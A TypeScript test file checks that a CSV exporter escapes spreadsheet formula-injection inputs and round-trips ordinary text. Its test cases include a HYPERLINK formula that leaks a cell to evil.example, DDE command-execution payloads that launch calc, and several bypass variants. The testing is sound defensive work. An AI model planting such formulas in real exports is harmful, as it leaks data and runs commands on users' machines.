import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { toCsv, unescapeFormula } from './csv.ts';

const writtenCell = (text: string) =>
  Papa.parse<string[]>(toCsv(['text'], [[text]]).replace('\uFEFF', '')).data[1]?.[0];

describe('toCsv', () => {
  test.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|'/C calc'!A0",
    '|calc',
    '%0A=1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\ttab first',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '=1+1\nand a second line',
    '=1+1;"=2+2"',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('escapes the formula %j', (text) => {
    expect(writtenCell(text)).toBe(`'${text}`);
    expect(unescapeFormula(writtenCell(text) ?? '')).toBe(text);
  });

  test('escapes formulas in column names', () => {
    expect(toCsv(['=1'], [])).toBe('\uFEFF"\'=1"\r\n');
  });
});

describe('toCsv without formulas', () => {
  test.each(['Ada', 'a=b', '5 - 6', 'ana@example.org', 'Núñez, "Pía"', 'two\nlines', "it's", ''])(
    'round-trips %j',
    (text) => {
      if (text === '') expect(toCsv(['a', 'b'], [[text, 'x']])).toBe('\uFEFFa,b\r\n,x\r\n');
      else expect(writtenCell(text)).toBe(text);
    },
  );

  test('writes numbers unquoted and null as an empty cell', () => {
    expect(toCsv(['a', 'b', 'c'], [[-5, 0, null]])).toBe('\uFEFFa,b,c\r\n-5,0,\r\n');
  });
});
